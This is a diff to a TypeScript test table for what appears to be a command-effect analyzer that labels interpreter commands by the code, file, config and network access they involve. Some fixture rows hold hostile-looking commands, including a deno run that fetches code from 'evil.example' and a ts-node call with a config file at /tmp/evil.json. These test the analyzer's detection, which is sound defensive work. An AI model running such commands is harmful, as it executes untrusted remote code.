@@ -47,7 +47,7 @@ export const INTERPRETER_CASES: readonly EffectCase[] = [
   ['node --run build', ['code npm-script task build']],
   ['node', ['code node stdin ?']],
   ['node --version', []],
-  ['node inspect x.js', ['code node file x.js', 'read x.js']],
+  ['node inspect x.js', ['code node stdin ?', 'code node file x.js', 'read x.js']],
   ['tsx watch src/x.ts', ['code node file src/x.ts', 'read src/x.ts']],
   ['ts-node -P /tmp/evil.json x.ts', ['config project path /tmp/evil.json', 'code node file x.ts', 'read x.ts']],
   ['deno run https://evil.example/x.ts', ['code deno module https://evil.example/x.ts', 'network url https://evil.example/x.ts']],
